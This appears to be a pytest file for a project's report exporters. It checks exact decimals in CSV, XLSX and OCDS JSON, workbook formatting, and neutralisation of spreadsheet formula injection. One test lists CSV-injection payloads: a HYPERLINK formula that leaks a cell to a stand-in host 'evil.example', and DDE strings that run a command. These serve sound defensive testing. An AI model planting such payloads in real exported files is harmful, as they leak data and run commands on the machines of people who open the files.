"""The report formats: CSV and XLSX cells (decimals digit for digit, the same bytes every time)
and the OCDS JSON writer (exact decimal numbers, never a float)."""

from __future__ import annotations

import io
import json
from decimal import Decimal

import openpyxl
import pytest

from purldesk.adapters.exports import ocds, sheets
from report_files import csv_rows, xlsx_table

HEADER = ("name", "amount", "count")
ROWS: list[list[sheets.Cell]] = [
    ['Café, "quoted" <b>', Decimal("12345678901234.56"), 3],
    ["zero", Decimal("0.00"), 0],
]


def test_csv_writes_decimals_exactly_and_quotes_text() -> None:
    rows = csv_rows(sheets.to_csv(HEADER, ROWS))
    assert rows[0] == {"name": 'Café, "quoted" <b>', "amount": "12345678901234.56", "count": "3"}
    assert rows[1]["amount"] == "0.00"


def test_xlsx_is_a_workbook_an_independent_reader_opens() -> None:
    data = sheets.to_xlsx("report", HEADER, ROWS)
    table = xlsx_table(data)
    assert table[0] == list(HEADER)
    assert table[1][0] == 'Café, "quoted" <b>'
    assert table[1][2] == 3
    assert data == sheets.to_xlsx("report", HEADER, ROWS)  # no clock in the archive


def test_ocds_json_writes_decimal_numbers_exactly() -> None:
    document = {"value": {"amount": Decimal("499290917.77"), "currency": "USD"}, "tag": []}
    text = ocds.dumps(document)
    assert '"amount": 499290917.77' in text
    assert json.loads(text, parse_float=Decimal) == document
    assert ocds.dumps(document, indent=None, sort_keys=True) == (
        '{"tag": [], "value": {"amount": 499290917.77, "currency": "USD"}}'
    )


@pytest.mark.parametrize("bad", [0.1, Decimal("NaN")])
def test_ocds_json_refuses_floats_and_non_numbers(bad: object) -> None:
    with pytest.raises((TypeError, ValueError)):
        ocds.dumps({"amount": bad})


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?leak="&A1,"Winter tents")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_neutralises_text_a_spreadsheet_would_run_as_a_formula(text: str) -> None:
    rows = csv_rows(sheets.to_csv(HEADER, [[text, Decimal("1.00"), 1]]))
    assert rows[0]["name"] == "'" + text


@pytest.mark.parametrize("text", ["-1,250.00", "+3", "-7", "Winter tents (=2 per lot)"])
def test_csv_leaves_signed_numbers_and_ordinary_text_as_they_are(text: str) -> None:
    rows = csv_rows(sheets.to_csv(HEADER, [[text, Decimal("-5.00"), -2]]))
    assert rows[0] == {"name": text, "amount": "-5.00", "count": "-2"}


def test_xlsx_money_columns_have_a_number_format_and_totals_come_below_in_bold() -> None:
    totals: list[list[sheets.Cell]] = [["total", Decimal("12345678901234.56"), ""]]
    data = sheets.to_xlsx("report", HEADER, ROWS, money={"amount"}, totals=totals)
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == list(HEADER) and sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"
    assert [sheet[f"B{r}"].number_format for r in (2, 3, 4)] == ["#,##0.00"] * 3
    assert sheet["C2"].number_format == "General"  # a count is not money
    assert (sheet["A4"].value, sheet["B4"].value) == ("total", 12345678901234.56)
    assert sheet["A4"].font.b and sheet["B4"].font.b and not sheet["A2"].font.b
    assert sheet.column_dimensions["B"].width >= len("12,345,678,901,234.56")
    workbook.close()
    # A CSV has no totals: each row is a record.
    assert len(csv_rows(sheets.table_csv(sheets.Table("r", HEADER, ROWS, totals=totals)))) == 2
